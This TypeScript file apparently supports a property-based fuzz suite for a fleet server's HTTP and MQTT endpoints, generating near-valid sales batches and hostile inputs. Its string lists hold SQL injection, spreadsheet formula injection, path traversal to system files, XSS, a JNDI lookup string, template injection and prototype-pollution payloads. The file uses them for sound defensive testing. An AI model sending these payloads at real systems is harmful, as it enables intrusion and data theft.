// fast-check arbitraries for hostile input (issue 12, "a suite that proves it"):
// strings and numbers that have broken servers before, JSON texts no
// JSON.stringify can produce, near-valid values built from a JSON schema (the
// OpenAPI document) and mutated one place at a time, and the HTTP framing
// around a body (content types, tokens, cookies). Near-valid inputs get past
// the first check and so reach more code than random ones.
import fc from 'fast-check'
import { DEFAULT_MQTT_MAX_PACKET_BYTES } from '../../fleet-server/src/config.js'
import { lineTotalFen, MAX_MESSAGE_BYTES, saleHash, type Sale, type SaleBatchMsg } from '../../shared/src/index.js'

/**
 * fast-check parameters: FC_SEED reproduces a run (fast-check prints the seed
 * of a failure). No shrinking: the inputs run against a live server whose
 * state moves on, and shrinking 1 MiB inputs costs minutes; the first
 * counterexample is reported as found.
 */
export function fcParams(numRuns: number): fc.Parameters<unknown> {
  const seed = process.env.FC_SEED ? Number(process.env.FC_SEED) : undefined
  return { numRuns, ...(seed !== undefined && Number.isFinite(seed) && { seed }), endOnFailure: true }
}

export const ONE_MIB = 1024 * 1024
/** Built once: a 1 MiB string costs a few ms to make and is shared by every run that draws it. */
export const MIB_STRING = 'A'.repeat(ONE_MIB)

/** Strings aimed at SQL, spreadsheets, paths, parsers and log lines. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  "'; DROP TABLE sales; --",
  "' OR '1'='1",
  '1; SELECT * FROM users',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://x","y")',
  '+1+1',
  '@SUM(1+1)',
  '-2+3',
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  '%00',
  'a\u0000b',
  '%2e%2e%2f%2e%2e%2f',
  '%zz',
  '%E0%A4%A',
  '\ud800',
  '\udfff\ud800',
  '\u202eRTL',
  '\ufeffBOM',
  '<script>alert(1)</script>',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'prototype',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e999',
  '-0',
  '0x10',
  '2020-02-30',
  '2020-13-01',
  '2020-00-10',
  '0000-00-00',
  '2020-02-30T00:00:00Z',
  '2020-10-12T25:61:61Z',
  '2020-10-12T10:00:00+08:00',
  '275760-09-13T00:00:00.001Z',
  '9999-12-31T23:59:59.999Z',
  '2020-W99',
  '2020-Q5',
  '2020-99',
  'null',
  'true',
  '[]',
  '{}',
  '定远县人民医院',
  '😀👍🏽',
  'x'.repeat(65),
  'x'.repeat(10_000),
  MIB_STRING,
]

/** Numbers JSON can carry that are wrong for fen, seq, qty, limits and coordinates. */
export const HOSTILE_NUMBERS: readonly number[] = [
  0,
  -1,
  1.5,
  -0.000001,
  2 ** 31,
  2 ** 32 + 1,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER,
  1e21,
  1e308,
  -1e308,
  Number.MAX_VALUE,
  Number.MIN_VALUE,
]

/** Well-formed but edge-case domain values: dates, periods and codes at and past their ends. */
export const EDGE_DOMAIN_STRINGS: readonly string[] = [
  '2020-02-29', '2021-02-29', '1970-01-01', '0000-01-01', '9999-12-31', '2020-12-31', '2021-01-01',
  '2020-W01', '2020-W53', '2021-W53', '2020-W00', '2020-Q1', '2020-Q4', '2020-Q0', '2020-01', '2020-12', '2020-00', '0000-01', '9999-12',
  '341125', '341100', '341126', '000000', '999999', '341125-00001', '341126-00001', '341125-99999',
  'weekly', 'monthly', 'quarterly', 'json', 'csv', 'xlsx', 'admin', 'county', 'operator', 'auditor',
]

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
)

/** Any JSON value, with hostile leaves more often than chance would give them. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}, [null], { __proto__: null, x: 1 }) },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.json().map((s) => JSON.parse(s) as unknown) },
)

/** A placeholder that jsonText() swaps for a token no JSON.stringify writes (NaN, Infinity, -0, 1e400). */
const RAW = '\u0001raw:'
const RAW_TOKENS = ['NaN', 'Infinity', '-Infinity', '-0', '1e400', '-1e400', '123456789012345678901234567890', 'undefined', '0x1F', '.5', '+1', '01']
export const rawToken: fc.Arbitrary<string> = fc.constantFrom(...RAW_TOKENS).map((t) => `${RAW}${t}`)

/** JSON text of a value, with raw tokens (from rawToken) written bare. */
export function jsonText(value: unknown): string {
  return (JSON.stringify(value) ?? '').replace(/"\\u0001raw:([^"]*)"/g, '$1')
}

/** Whole bodies that are not JSON, or are JSON that parsers and prototype chains trip over. */
export const HOSTILE_JSON_TEXTS: readonly string[] = [
  '',
  ' ',
  'null',
  'true',
  '0',
  '"x"',
  '[]',
  'NaN',
  'Infinity',
  '-0',
  '1e400',
  '{"a":NaN}',
  '{"a":Infinity}',
  '{',
  '{"a":1,}',
  '[1,]',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '{"a":1,"a":2}',
  '\ufeff{}',
  '{"__proto__":{"isAdmin":true,"role":"admin"}}',
  '{"constructor":{"prototype":{"role":"admin"}}}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  `${'['.repeat(10_000)}${']'.repeat(10_000)}`,
  `${'{"a":'.repeat(5_000)}1${'}'.repeat(5_000)}`,
  `{"a":"${MIB_STRING}"}`,
]

/** Byte sequences that are not UTF-8 (lone continuation, overlong, surrogate half, truncated), inside JSON-looking text. */
export const INVALID_UTF8: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0xfd]),
  Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xc0, 0xaf]), Buffer.from('"}')]),
  Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from('"}')]),
  Buffer.concat([Buffer.from('{"a":"'), Buffer.from([0xe4, 0xbd]), Buffer.from('"}')]),
  Buffer.concat([Buffer.from('{"'), Buffer.from([0x80]), Buffer.from('":1}')]),
  Buffer.from([0xfe, 0xff, 0x00, 0x7b, 0x00, 0x7d]), // UTF-16 BE "{}" with its BOM
]

export const invalidUtf8: fc.Arbitrary<Buffer> = fc.oneof(
  fc.constantFrom(...INVALID_UTF8),
  fc.uint8Array({ minLength: 1, maxLength: 64 }).map((a) => Buffer.from(a)),
)

// ---------------------------------------------------------------------------
// Near-valid values from a JSON schema (the subset zod's OpenAPI output uses)

export interface JsonSchema {
  type?: string | string[]
  enum?: unknown[]
  const?: unknown
  pattern?: string
  format?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  exclusiveMinimum?: number | boolean
  exclusiveMaximum?: number | boolean
  items?: JsonSchema
  minItems?: number
  maxItems?: number
  properties?: Record<string, JsonSchema>
  required?: string[]
  additionalProperties?: boolean | JsonSchema
  anyOf?: JsonSchema[]
  oneOf?: JsonSchema[]
  allOf?: JsonSchema[]
  nullable?: boolean
  default?: unknown
}

const cap = (n: number | undefined, max: number): number => Math.min(n ?? max, max)

/** Values a schema accepts, or nearly: business rules (a real USCC, a known SKU) are not in a schema. */
export function fromSchema(schema: JsonSchema | undefined, depth = 0): fc.Arbitrary<unknown> {
  if (!schema || depth > 6) return hostileValue
  const inner = fromSchemaInner(schema, depth)
  return schema.nullable ? fc.oneof(inner, fc.constant(null)) : inner
}

function fromSchemaInner(s: JsonSchema, depth: number): fc.Arbitrary<unknown> {
  if (s.const !== undefined) return fc.constant(s.const)
  if (s.enum) return fc.constantFrom(...s.enum)
  const alts = s.anyOf ?? s.oneOf
  if (alts?.length) return fc.oneof(...alts.map((a) => fromSchema(a, depth + 1)))
  if (s.allOf?.length) return fromSchema(s.allOf[0], depth + 1)
  const type = Array.isArray(s.type) ? s.type[0] : s.type
  switch (type) {
    case 'string': {
      if (s.pattern) {
        try {
          return fc.stringMatching(new RegExp(s.pattern)).filter((x) => x.length <= (s.maxLength ?? 200))
        } catch {
          // a pattern fast-check cannot generate from: fall through to lengths
        }
      }
      return fc.oneof(
        { weight: 3, arbitrary: fc.string({ minLength: s.minLength ?? 0, maxLength: Math.max(s.minLength ?? 0, cap(s.maxLength, 24)) }) },
        { weight: 2, arbitrary: fc.constantFrom(...EDGE_DOMAIN_STRINGS) },
      )
    }
    case 'integer': {
      const min = typeof s.minimum === 'number' ? s.minimum : -1_000_000
      const max = typeof s.maximum === 'number' ? Math.min(s.maximum, min + 1_000_000_000) : min + 1_000_000
      return fc.integer({ min: Math.max(min, Number.MIN_SAFE_INTEGER), max: Math.min(max, Number.MAX_SAFE_INTEGER) })
    }
    case 'number': {
      const min = typeof s.minimum === 'number' ? s.minimum : -1e6
      const max = typeof s.maximum === 'number' ? s.maximum : 1e6
      return fc.double({ min, max, noNaN: true, noDefaultInfinity: true })
    }
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    case 'array':
      return fc.array(fromSchema(s.items, depth + 1), { minLength: s.minItems ?? 0, maxLength: Math.max(s.minItems ?? 0, cap(s.maxItems, 4)) })
    case 'object': {
      const props = s.properties ?? {}
      const model: Record<string, fc.Arbitrary<unknown>> = {}
      for (const [k, v] of Object.entries(props)) model[k] = fromSchema(v, depth + 1)
      if (Object.keys(model).length === 0) return fc.dictionary(fc.string({ maxLength: 8 }), hostileValue, { maxKeys: 3 })
      return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => k in model) })
    }
    default:
      return hostileValue
  }
}

// ---------------------------------------------------------------------------
// One-place mutations of a valid value

type Path = (string | number)[]

function pathsOf(v: unknown, at: Path = [], out: Path[] = []): Path[] {
  out.push(at)
  if (Array.isArray(v)) v.forEach((x, i) => pathsOf(x, [...at, i], out))
  else if (v && typeof v === 'object') for (const [k, x] of Object.entries(v)) pathsOf(x, [...at, k], out)
  return out
}

const clone = <T>(v: T): T => structuredClone(v)

type Op = 'replace' | 'raw' | 'delete' | 'extraKey' | 'wrapArray' | 'stringify' | 'duplicate' | 'empty'
const OPS: readonly Op[] = ['replace', 'replace', 'replace', 'raw', 'delete', 'extraKey', 'wrapArray', 'stringify', 'duplicate', 'empty']

function setAt(root: unknown, path: Path, f: (parent: Record<string | number, unknown>, key: string | number) => void): unknown {
  if (path.length === 0) {
    const box: Record<string, unknown> = { v: root }
    f(box, 'v')
    return box.v
  }
  let parent = root as Record<string | number, unknown>
  for (const k of path.slice(0, -1)) parent = parent[k] as Record<string | number, unknown>
  f(parent, path.at(-1)!)
  return root
}

/** `value` changed in one place: a hostile leaf, a bare NaN, a key dropped or added, a type changed. */
export function mutated(value: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(value)
  return fc
    .record({ i: fc.nat({ max: paths.length - 1 }), op: fc.constantFrom(...OPS), v: hostileValue, raw: rawToken, key: fc.constantFrom('extra', '__proto__', 'constructor', '') })
    .map(({ i, op, v, raw, key }) => {
      const root = clone(value)
      return setAt(root, paths[i]!, (parent, k) => {
        const cur = parent[k]
        switch (op) {
          case 'replace':
            parent[k] = v
            break
          case 'raw':
            parent[k] = raw
            break
          case 'delete':
            if (Array.isArray(parent)) parent.splice(k as number, 1)
            else delete parent[k]
            break
          case 'extraKey':
            if (cur && typeof cur === 'object' && !Array.isArray(cur)) Object.defineProperty(cur, key, { value: v, enumerable: true, configurable: true, writable: true })
            else parent[k] = v
            break
          case 'wrapArray':
            parent[k] = [cur]
            break
          case 'stringify':
            parent[k] = typeof cur === 'string' ? Number(cur) : JSON.stringify(cur) ?? 'undefined'
            break
          case 'duplicate':
            parent[k] = Array.isArray(cur) ? [...(cur as unknown[]), ...(cur as unknown[])] : cur
            break
          case 'empty':
            parent[k] = Array.isArray(cur) ? [] : typeof cur === 'string' ? '' : cur && typeof cur === 'object' ? {} : 0
            break
        }
      })
    })
}

/** Mostly-invalid JSON text: fully random, hostile texts, or a valid value mutated once (the ones that find bugs). */
export function jsonBody(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 5, arbitrary: valid.chain(mutated).map(jsonText) },
    { weight: 1, arbitrary: valid.map(jsonText) },
    { weight: 2, arbitrary: hostileValue.map(jsonText) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_JSON_TEXTS) },
    { weight: 1, arbitrary: fc.string({ maxLength: 60 }) },
  )
}

// ---------------------------------------------------------------------------
// HTTP framing

export const HOSTILE_CONTENT_TYPES: readonly string[] = [
  'text/plain',
  'text/plain; charset=utf-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'text/csv',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/json;;;',
  'application/jsonx',
  'APPLICATION/JSON',
  '*/*',
  'application/',
  'garbage',
]

/** A header value that can cross a real socket (visible ASCII, spaces, Latin-1), hostile in content. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS.filter((s) => /^[\t\x20-\x7e\x80-\xff]*$/.test(s) && s.length < 20_000)),
  fc.string({ unit: fc.integer({ min: 0x20, max: 0x7e }).map((c) => String.fromCharCode(c)), maxLength: 80 }),
)

/** Authorization header values that must all be refused. */
export const badAuthorization: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('', 'Bearer', 'Bearer ', 'Bearer  ', 'bearer x y', 'Basic YWRtaW46YWRtaW4=', 'Token abc', 'Bearer null', 'Bearer undefined', `Bearer ${'a'.repeat(8192)}`),
  headerValue.map((v) => `Bearer ${v}`),
  headerValue,
)

/** Cookie headers with a session cookie that is absent, unknown, malformed or percent-broken. */
export const badCookie: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('fleet_session=', 'fleet_session', '=', ';;;', 'fleet_session=%', 'fleet_session=%E0%A4%A', 'fleet_session=%zz', 'fleet_session=a; fleet_session=b', `fleet_session=${'a'.repeat(8192)}`),
  headerValue.map((v) => `fleet_session=${v}`),
  headerValue,
)

/** A value as the text a query or path would carry it. */
export const asText = (v: unknown): string => (typeof v === 'string' ? v : (JSON.stringify(v) ?? ''))

/** encodeURIComponent that takes lone surrogates too (as the UTF-8 bytes Node would send). */
export function percentEncode(s: string): string {
  try {
    return encodeURIComponent(s)
  } catch {
    return Buffer.from(s, 'utf8').toString('hex').replace(/../g, '%$&')
  }
}

/** Path segment values: encoded hostile strings, or raw text that is not valid percent-encoding. */
export const pathSegment: fc.Arbitrary<string> = fc.oneof(
  hostileString.filter((s) => s.length < 5_000).map(percentEncode),
  fc.constantFrom('%00', '%zz', '%', '%E0%A4%A', '..', '.', '..%2F..%2Fetc%2Fpasswd', '%2e%2e', 'a%2Fb', ';', '%3B', 'x'.repeat(5_000)),
)

/** Raw query strings (after '?') that parsers may choke on. */
export const rawQuery: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('%zz', '=', '&&&', 'a[b]=1', 'a[]=1&a[]=2', '__proto__[x]=1', 'constructor[prototype][x]=1', 'limit=1&limit=2', 'limit=-1', 'limit=1e400', 'limit=NaN', 'offset=9007199254740993', 'from=2020-02-30&to=0000-00-00', 'format=../../etc/passwd', `q=${'a'.repeat(100_000)}`),
  fc.string({ maxLength: 60 }).map(percentEncode),
)

// ---------------------------------------------------------------------------
// MQTT payloads a cabinet can publish

/** A valid batch continuing the chain at `head`, built from generated sales (seeded, so reproducible). */
export function validSaleBatch(cabinetId: string, head: { seq: number; hash: string }): fc.Arbitrary<SaleBatchMsg> {
  const line = fc.record({
    sku: fc.constantFrom('DY-RICE-5KG', 'DY-HONEY-500G', 'GEN:WATER_550.1', 'FY-FLOUR'),
    qty: fc.integer({ min: 1, max: 20 }),
    unitPriceFen: fc.integer({ min: 0, max: 100_000 }),
  })
  const sale = fc.record({
    saleId: fc.uuid({ version: 7 }),
    soldAtMs: fc.integer({ min: Date.UTC(2020, 0, 1), max: Date.UTC(2030, 0, 1) }),
    payment: fc.constantFrom('wechat', 'alipay', 'unionpay', 'cash') as fc.Arbitrary<Sale['payment']>,
    lines: fc.array(line, { minLength: 1, maxLength: 3 }),
  })
  return fc.record({ batchId: fc.uuid({ version: 7 }), sales: fc.array(sale, { minLength: 1, maxLength: 3 }) }).map(({ batchId, sales }) => {
    let prevHash = head.hash
    const chained = sales.map((s, i): Sale => {
      const soldAt = new Date(s.soldAtMs).toISOString()
      const out: Sale = { saleId: s.saleId, seq: head.seq + 1 + i, soldAt, recordedAt: soldAt, payment: s.payment, lines: s.lines, totalFen: lineTotalFen(s.lines), prevHash, hash: '' }
      out.hash = saleHash(cabinetId, out)
      prevHash = out.hash
      return out
    })
    return { v: 1, type: 'sales', batchId, cabinetId, sales: chained }
  })
}

/** A batch whose JSON is valid but whose chain or totals are not: each re-hashed, so only the named rule fails. */
function businessBroken(cabinetId: string, batch: SaleBatchMsg): fc.Arbitrary<SaleBatchMsg> {
  const rehash = (s: Sale, id = cabinetId): Sale => ({ ...s, hash: saleHash(id, s) })
  const first = batch.sales[0]!
  const rest = batch.sales.slice(1)
  return fc.constantFrom<(b: SaleBatchMsg) => SaleBatchMsg>(
    (b) => ({ ...b, cabinetId: `${cabinetId}x` }), // CABINET_MISMATCH
    (b) => ({ ...b, sales: [rehash({ ...first, totalFen: first.totalFen + 1 }), ...rest] }), // SALE_TOTAL_MISMATCH
    (b) => ({ ...b, sales: [rehash({ ...first, seq: first.seq + 5 })] }), // SALE_SEQ_GAP
    (b) => ({ ...b, sales: [rehash({ ...first, prevHash: 'f'.repeat(64) })] }), // SALE_CHAIN_BROKEN
    (b) => ({ ...b, sales: [{ ...first, totalFen: first.totalFen + 1, lines: [{ ...first.lines[0]!, unitPriceFen: first.lines[0]!.unitPriceFen + 1 }, ...first.lines.slice(1)] }] }), // SALE_TAMPERED
    (b) => ({ ...b, sales: [rehash({ ...first, soldAt: '1970-01-01T00:00:00Z', recordedAt: '2099-12-31T23:59:59Z' })] }),
  ).map((f) => f(batch))
}

/**
 * Payloads the broker takes and hands to a handler: a packet over the
 * transport cap is cut with the connection before any handler sees it (that
 * is packet-guard's and connection-guard's tests), so a 1 MiB string mutated
 * into a message is kept only while the whole packet fits.
 */
const FITS_PACKET_CAP = (b: Buffer): boolean => b.length < DEFAULT_MQTT_MAX_PACKET_BYTES - 1024

/** What a cabinet might publish on its sales topic: mostly invalid, some near-valid, a few valid. */
export function salePayload(cabinetId: string, head: { seq: number; hash: string }): fc.Arbitrary<Buffer> {
  const valid = validSaleBatch(cabinetId, head)
  return fc.oneof(
    { weight: 6, arbitrary: valid.chain(mutated).map((v) => Buffer.from(jsonText(v))) },
    { weight: 3, arbitrary: valid.chain((b) => businessBroken(cabinetId, b)).map((b) => Buffer.from(JSON.stringify(b))) },
    { weight: 1, arbitrary: valid.map((b) => Buffer.from(JSON.stringify(b))) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_JSON_TEXTS.filter((t) => t.length < 256 * 1024)).map((t) => Buffer.from(t)) },
    { weight: 1, arbitrary: invalidUtf8 },
    { weight: 1, arbitrary: hostileValue.map((v) => Buffer.from(jsonText(v))) },
    { weight: 1, arbitrary: fc.constant(Buffer.alloc(MAX_MESSAGE_BYTES + 1, 0x20)) },
  ).filter(FITS_PACKET_CAP)
}

const isoAt = fc.integer({ min: Date.UTC(2020, 0, 1), max: Date.UTC(2030, 0, 1) }).map((ms) => new Date(ms).toISOString())

/** Valid heartbeat, presence and event messages of a cabinet, per up kind other than sales. */
export function validUpMessage(cabinetId: string, kind: string): fc.Arbitrary<Record<string, unknown>> {
  switch (kind) {
    case 'heartbeat':
      return fc.record({
        v: fc.constant(1), type: fc.constant('heartbeat'), cabinetId: fc.constant(cabinetId), sentAt: isoAt,
        lastSeq: fc.nat(100), lastAckedSeq: fc.nat(100), pending: fc.nat(100), oldestPendingAgeS: fc.nat(3600),
        catalogVersion: fc.option(fc.nat(10), { nil: null }), uptimeS: fc.nat(1e6), agentVersion: fc.string({ maxLength: 10 }),
      })
    case 'presence':
      return fc.record({ v: fc.constant(1), type: fc.constant('presence'), cabinetId: fc.constant(cabinetId), state: fc.constantFrom('online', 'offline'), at: isoAt }, { requiredKeys: ['v', 'type', 'cabinetId', 'state'] })
    case 'events':
      return fc.record({
        v: fc.constant(1), type: fc.constant('event'), cabinetId: fc.constant(cabinetId), eventId: fc.uuid({ version: 7 }), at: isoAt,
        kind: fc.constantFrom('started', 'door_open', 'fault', 'restock', 'clock_skew', 'ledger_error', 'sync_rejected'),
        detail: fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string({ maxLength: 20 }), fc.integer(), fc.boolean(), fc.constant(null)), { maxKeys: 3 }),
      })
    default:
      // A kind added after this was written: the envelope every message carries, so it is still fuzzed.
      return fc.record({ v: fc.constant(1), type: fc.constant(kind), cabinetId: fc.constant(cabinetId), at: isoAt })
  }
}

/** Payloads for the other up topics: near-valid (mutated once), valid, or hostile. */
export function upPayload(cabinetId: string, kind: string): fc.Arbitrary<Buffer> {
  const valid = validUpMessage(cabinetId, kind)
  return fc.oneof(
    { weight: 5, arbitrary: valid.chain(mutated).map((v) => Buffer.from(jsonText(v))) },
    { weight: 1, arbitrary: valid.map((v) => Buffer.from(JSON.stringify(v))) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE_JSON_TEXTS.filter((t) => t.length < 256 * 1024)).map((t) => Buffer.from(t)) },
    { weight: 1, arbitrary: invalidUtf8 },
    { weight: 1, arbitrary: fc.constant(Buffer.alloc(MAX_MESSAGE_BYTES + 1, 0x20)) },
  ).filter(FITS_PACKET_CAP)
}
